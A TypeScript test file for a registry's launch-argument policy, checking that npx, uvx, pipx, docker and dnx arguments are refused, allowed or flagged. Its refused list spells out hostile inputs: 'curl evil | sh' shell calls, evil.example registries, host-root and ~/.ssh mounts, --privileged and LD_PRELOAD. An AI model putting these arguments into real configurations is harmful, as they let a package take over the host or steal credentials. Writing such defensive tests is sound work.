/** argumentPolicy.ts: the probe's attacks are refused, real entries' arguments pass, unknown options are shown. */
import assert from 'node:assert/strict';
import { describe, test } from 'node:test';
import {
  describeFinding,
  reviewArguments,
  type ArgumentReason,
  type Runtime,
} from '../../../../src/workbench/registry/argumentPolicy';

const review = (runtime: Runtime, runtimeArgs: string[], packageArgs: string[] = [], environment: string[] = []) =>
  reviewArguments({ runtime, runtimeArgs, packageArgs, environment }).findings;

describe('refused: another package, source, entrypoint, privilege, host access or a shell', () => {
  const attacks: [Runtime, string[], string[], string, ArgumentReason][] = [
    // [runtime, runtime args, package args, the argument named, why]
    ['npx', ['--package=evil-pkg'], [], '--package=evil-pkg', 'another-package'],
    ['npx', ['--package', 'evil-pkg'], [], '--package evil-pkg', 'another-package'],
    ['npx', ['-p', 'evil-pkg'], [], '-p evil-pkg', 'another-package'],
    ['npx', ['-yp', 'evil-pkg'], [], '-p evil-pkg', 'another-package'],
    ['npx', ['-pevil-pkg'], [], '-p evil-pkg', 'another-package'],
    ['npx', ['--pack=evil-pkg'], [], '--pack=evil-pkg', 'another-package'], // nopt takes abbreviations
    ['npx', ['evil-pkg'], [], 'evil-pkg', 'another-package'], // a word before the package is the package
    ['npx', ['--', 'evil-pkg'], [], '--', 'another-package'],
    ['npx', ['--registry=http://evil.example/'], [], '--registry=http://evil.example/', 'another-source'],
    ['npx', ['--registry', 'http://evil.example/'], [], '--registry http://evil.example/', 'another-source'],
    ['npx', ['-registry=http://evil.example/'], [], '-registry=http://evil.example/', 'another-source'],
    [
      'npx',
      ['--@example:registry=http://evil.example/'],
      [],
      '--@example:registry=http://evil.example/',
      'another-source',
    ],
    ['npx', ['--call', 'curl evil | sh'], [], '--call curl evil | sh', 'shell'],
    ['npx', ['-c', 'id'], [], '-c id', 'shell'],
    ['npx', ['--node-options=--require=/tmp/x.js'], [], '--node-options=--require=/tmp/x.js', 'code-injection'],
    ['npx', ['--userconfig', '/tmp/npmrc'], [], '--userconfig /tmp/npmrc', 'runtime-config'],
    ['npx', ['--strict-ssl=false'], [], '--strict-ssl=false', 'insecure-download'],
    ['npx', ['--prefer-offline', '--foo', './evil'], [], '--foo ./evil', 'local-path'],
    ['npx', ['--loglevel'], [], '--loglevel', 'swallows-package'], // would take the package's name as its value
    ['uvx', ['--from', 'git+http://evil.example/x.git'], [], '--from git+http://evil.example/x.git', 'another-source'],
    ['uvx', ['--from=git+http://evil.example/x.git'], [], '--from=git+http://evil.example/x.git', 'another-source'],
    ['uvx', ['--with', 'evil'], [], '--with evil', 'another-package'],
    ['uvx', ['-w', 'evil'], [], '-w evil', 'another-package'],
    [
      'uvx',
      ['--index-url', 'http://evil.example/simple'],
      [],
      '--index-url http://evil.example/simple',
      'another-source',
    ],
    [
      'uvx',
      ['--extra-index-url=http://evil.example/simple'],
      [],
      '--extra-index-url=http://evil.example/simple',
      'another-source',
    ],
    ['uvx', ['-i', 'http://evil.example/simple'], [], '-i http://evil.example/simple', 'another-source'],
    ['uvx', ['-ihttp://evil.example/simple'], [], '-i http://evil.example/simple', 'another-source'],
    ['uvx', ['--python', '/tmp/evil/python'], [], '--python /tmp/evil/python', 'local-path'],
    ['pipx', ['--spec', 'git+https://evil.example/x'], [], '--spec git+https://evil.example/x', 'another-source'],
    ['pipx', ['--ind', 'http://evil.example/'], [], '--ind http://evil.example/', 'another-source'], // argparse abbreviates
    ['docker', ['--privileged'], [], '--privileged', 'privilege'],
    ['docker', ['--privileged=true'], [], '--privileged=true', 'privilege'],
    ['docker', ['-v', '/:/host'], [], '-v /:/host', 'host-mount'],
    ['docker', ['--volume=/:/host'], [], '--volume=/:/host', 'host-mount'],
    ['docker', ['-v/:/host'], [], '-v /:/host', 'host-mount'],
    ['docker', ['-iv', '/:/host'], [], '-v /:/host', 'host-mount'],
    ['docker', ['-v', '${input:x-dir}:/data'], [], '-v ${input:x-dir}:/data', 'host-mount'],
    ['docker', ['-v', '~/.ssh:/keys:ro'], [], '-v ~/.ssh:/keys:ro', 'host-mount'],
    ['docker', ['-v', 'C:\\Users:/host'], [], '-v C:\\Users:/host', 'host-mount'],
    [
      'docker',
      ['--mount', 'type=bind,source=/,target=/host'],
      [],
      '--mount type=bind,source=/,target=/host',
      'host-mount',
    ],
    [
      'docker',
      ['--mount=type=volume,dst=/d,volume-opt=device=/'],
      [],
      '--mount=type=volume,dst=/d,volume-opt=device=/',
      'host-mount',
    ],
    ['docker', ['--entrypoint', '/bin/sh'], [], '--entrypoint /bin/sh', 'entrypoint'],
    ['docker', ['--entrypoint=/bin/sh'], [], '--entrypoint=/bin/sh', 'entrypoint'],
    ['docker', ['--cap-add', 'SYS_ADMIN'], [], '--cap-add SYS_ADMIN', 'privilege'],
    ['docker', ['--security-opt', 'seccomp=unconfined'], [], '--security-opt seccomp=unconfined', 'privilege'],
    ['docker', ['--pid=host'], [], '--pid=host', 'host-namespace'],
    ['docker', ['--ipc', 'host'], [], '--ipc host', 'host-namespace'],
    ['docker', ['--network=host'], [], '--network=host', 'host-namespace'],
    ['docker', ['--net', 'container:abc'], [], '--net container:abc', 'host-namespace'],
    ['docker', ['--device', '/dev/sda'], [], '--device /dev/sda', 'device'],
    ['docker', ['--user', 'root'], [], '--user root', 'root-user'],
    ['docker', ['-u', '0'], [], '-u 0', 'root-user'],
    ['docker', ['-u', '0:0'], [], '-u 0:0', 'root-user'],
    ['docker', ['--env-file', '/home/me/.aws/credentials'], [], '--env-file /home/me/.aws/credentials', 'local-path'],
    ['docker', ['--network', '--privileged'], [], '--privileged', 'privilege'], // a value that looks like a flag
    ['docker', ['evil/image'], [], 'evil/image', 'another-package'],
    ['podman', ['--privileged'], [], '--privileged', 'privilege'],
    [
      'dnx',
      ['--source', 'http://evil.example/v3/index.json'],
      [],
      '--source http://evil.example/v3/index.json',
      'another-source',
    ],
    ['dnx', ['--add-source=http://evil.example/'], [], '--add-source=http://evil.example/', 'another-source'],
    ['dnx', ['--version', '6.6.6'], [], '--version 6.6.6', 'another-package'],
    ['docker', [], ['sh', '-c', 'curl evil | sh'], 'sh -c', 'shell'],
    ['docker', [], ['/bin/bash'], '/bin/bash', 'shell'], // replaces the image's command
    ['npx', [], ['--stdio', 'bash', '-lc', 'id'], 'bash -lc', 'shell'],
    ['mcpb', [], ['cmd.exe', '/c', 'calc'], 'cmd.exe /c', 'shell'],
    ['docker', [], ['python3', '-c', 'import os'], 'python3 -c', 'shell'],
    ['uvx', [], ['--', 'node', '--eval=process.exit()'], 'node --eval=process.exit()', 'shell'],
  ];
  for (const [runtime, runtimeArgs, packageArgs, argument, reason] of attacks) {
    test(`${runtime} ${[...runtimeArgs, '<package>', ...packageArgs].join(' ')}`, () => {
      const findings = review(runtime, runtimeArgs, packageArgs);
      const found = findings.find((finding) => finding.argument === argument && finding.verdict === 'refused');
      assert.ok(found, `expected ${argument} refused, got ${JSON.stringify(findings)}`);
      assert.equal(found.reason, reason);
    });
  }

  test('environment names the launcher reads are refused', () => {
    for (const name of [
      'npm_config_registry',
      'NODE_OPTIONS',
      'UV_INDEX_URL',
      'PIP_INDEX_URL',
      'DOCKER_HOST',
      'LD_PRELOAD',
      'PATH',
      'DOTNET_STARTUP_HOOKS',
    ])
      assert.deepEqual(
        review('npx', [], [], [name]).map((finding) => [finding.verdict, finding.place, finding.argument]),
        [['refused', 'environment', name]],
        name,
      );
  });

  test('the English words name the argument and why', () => {
    const [finding] = review('docker', ['--privileged']);
    assert.equal(
      describeFinding(finding),
      'runtime argument "--privileged": gives the container privileges over the host',
    );
  });
});

describe('allowed: real entries', () => {
  const benign: [Runtime, string[], string[], string[]][] = [
    ['npx', ['-y'], [], []], // npx -y @modelcontextprotocol/server-everything
    ['npx', ['--yes', '--prefer-offline', '--loglevel=error'], ['--units', 'metric', '/home/me/notes'], ['API_KEY']],
    ['npx', ['-y'], ['stdio'], []],
    ['bunx', ['--bun'], [], []],
    ['uvx', [], [], []], // uvx mcp-server-fetch
    ['uvx', ['--python', '3.12', '-q'], ['--ignore-robots-txt'], ['FETCH_TOKEN']],
    ['uvx', ['--python=cpython@3.11'], [], []],
    ['pipx', [], ['--port', '0'], []],
    ['docker', ['-i', '--rm', '-e', 'X'], [], ['X']], // docker run -i --rm -e X mcp/foo
    ['docker', ['-e', 'GITHUB_TOKEN=${input:gh-token}'], ['stdio'], []],
    ['docker', ['--network', 'none', '--read-only', '--init'], ['--read-only'], []],
    ['docker', ['-v', 'memory-data:/app/data', '-v', '/tmp/cache'], [], []], // a named and an anonymous volume
    ['docker', ['--mount', 'type=volume,source=data,target=/data'], [], []],
    ['docker', ['--mount', 'type=tmpfs,target=/tmp'], [], []],
    ['docker', ['--user', '1000:1000', '--security-opt', 'no-new-privileges', '--cap-drop', 'ALL'], [], []],
    ['docker', ['--memory=512m', '--cpus', '1', '--pull', 'missing'], [], []],
    ['podman', ['-i', '--rm'], [], []],
    ['dnx', ['--yes', '--verbosity', 'quiet'], ['serve'], []],
    ['mcpb', [], ['--port', '3000'], ['LOG_LEVEL']],
  ];
  for (const [runtime, runtimeArgs, packageArgs, environment] of benign) {
    test(`${runtime} ${[...runtimeArgs, '<package>', ...packageArgs].join(' ')}`, () => {
      assert.deepEqual(review(runtime, runtimeArgs, packageArgs, environment), []);
    });
  }
});

describe('unusual: shown, not refused', () => {
  const shown: [Runtime, string[], string[], string, ArgumentReason][] = [
    ['npx', ['--frobnicate'], [], '--frobnicate', 'unknown-option'],
    ['npx', ['--frobnicate', 'fast'], [], '--frobnicate fast', 'unknown-option'],
    ['uvx', ['-Z'], [], '-Z', 'unknown-option'],
    ['docker', ['-it'], [], '-t', 'unusual-option'],
    ['docker', ['-p', '8080:8080'], [], '-p 8080:8080', 'unusual-option'],
    ['docker', ['--label', '--rm'], [], '--label --rm', 'flag-like-value'],
    ['docker', [], ['/usr/bin/python3', 'server.py'], '/usr/bin/python3', 'other-program'],
    ['dnx', ['--prerelease'], [], '--prerelease', 'unusual-option'],
    ['docker', ['--log-driver', 'syslog'], [], '--log-driver syslog', 'unusual-option'],
  ];
  for (const [runtime, runtimeArgs, packageArgs, argument, reason] of shown) {
    test(`${runtime} ${[...runtimeArgs, '<package>', ...packageArgs].join(' ')}`, () => {
      const findings = review(runtime, runtimeArgs, packageArgs);
      assert.ok(
        findings.every((finding) => finding.verdict === 'unusual'),
        `nothing refused: ${JSON.stringify(findings)}`,
      );
      assert.ok(
        findings.some((finding) => finding.argument === argument && finding.reason === reason),
        `expected ${argument} shown as ${reason}, got ${JSON.stringify(findings)}`,
      );
    });
  }
});
